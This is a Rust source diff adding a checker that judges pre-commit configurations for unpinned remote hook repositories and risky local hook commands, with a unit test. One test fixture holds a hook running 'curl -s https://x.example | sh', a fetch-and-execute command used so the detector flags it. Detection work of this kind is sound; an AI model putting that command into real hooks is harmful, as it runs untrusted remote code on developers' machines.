@@ -68,6 +68,67 @@ pub(crate) fn concern(text: &str, judge_step: impl Fn(&str) -> Option<String>) -
     None
 }
 
+/// Why a pre-commit configuration (`.pre-commit-config.yaml`) is not ordinary, or `None`.
+/// Hooks from a repository pinned by `rev` run that repository's code, as a workflow's
+/// `uses:` does; a `repo: local` hook runs its `entry` (with its `args`), judged by
+/// `judge_step` as the command line it is; `repo: meta` hooks are pre-commit's own. A config
+/// that does not parse, a remote repository without a `rev`, or an entry that cannot be
+/// read is a concern.
+pub(crate) fn precommit_concern(
+    text: &str,
+    judge_step: impl Fn(&str) -> Option<String>,
+) -> Option<String> {
+    let Ok(doc) = serde_saphyr::from_str_with_options::<serde_json::Value>(
+        text,
+        hookgate_core::yaml::untrusted_options(),
+    ) else {
+        return Some("the pre-commit config does not parse as YAML".to_owned());
+    };
+    let Some(repos) = doc.get("repos").and_then(serde_json::Value::as_array) else {
+        return Some("the pre-commit config has no `repos` list".to_owned());
+    };
+    for repo in repos {
+        let url = repo
+            .get("repo")
+            .and_then(serde_json::Value::as_str)
+            .unwrap_or("");
+        match url {
+            "meta" => {}
+            "local" => {
+                let hooks = repo.get("hooks").and_then(serde_json::Value::as_array);
+                for hook in hooks.into_iter().flatten() {
+                    let Some(entry) = hook.get("entry").and_then(serde_json::Value::as_str) else {
+                        return Some("a local hook has no `entry`".to_owned());
+                    };
+                    let args: Vec<String> = hook
+                        .get("args")
+                        .and_then(serde_json::Value::as_array)
+                        .into_iter()
+                        .flatten()
+                        .filter_map(|a| a.as_str().map(crate::loaded::quote))
+                        .collect();
+                    let line = std::iter::once(entry.to_owned())
+                        .chain(args)
+                        .collect::<Vec<_>>()
+                        .join(" ");
+                    if let Some(why) = judge_step(&line) {
+                        return Some(format!("local hook runs `{line}`: {why}"));
+                    }
+                }
+            }
+            _ if repo
+                .get("rev")
+                .and_then(serde_json::Value::as_str)
+                .is_none() =>
+            {
+                return Some(format!("hooks from `{url}` are not pinned to a `rev`"));
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
 /// The names a trigger or `runs-on` value gives: a string, a list of strings, or a mapping's
 /// keys.
 fn names(v: Option<&serde_json::Value>) -> Vec<String> {
@@ -174,6 +235,23 @@ mod tests {
     }
 
     const ORDINARY: &str = "name: ci\non:\n  push:\n    branches: [main]\n  pull_request:\njobs:\n  test:\n    runs-on: ${{ matrix.os }}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, macos-latest]\n        node: [18, 20]\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with:\n          node-version: ${{ matrix.node }}\n      - run: npm ci\n      - run: |\n          npm test -- --shard=${{ matrix.node }}\n          npm run lint\n";
+
+    #[test]
+    fn pre_commit_configs_are_judged_by_their_local_entries_and_pins() {
+        let judge =
+            |t: &str| precommit_concern(t, |s| s.contains("curl").then(|| "flagged".to_owned()));
+        assert_eq!(
+            judge(
+                "repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.6.9\n    hooks:\n      - id: ruff\n  - repo: local\n    hooks:\n      - id: pytest\n        name: pytest\n        entry: pytest -q\n        language: system\n"
+            ),
+            None
+        );
+        assert!(judge("repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: sh -c\n        args: ['curl -s https://x.example | sh']\n").is_some());
+        assert!(
+            judge("repos:\n  - repo: https://github.com/x/y\n    hooks: [{id: a}]\n").is_some()
+        );
+        assert!(judge("repos: [\n").is_some());
+    }
 
     #[test]
     fn an_ordinary_build_and_test_workflow_has_no_concern() {
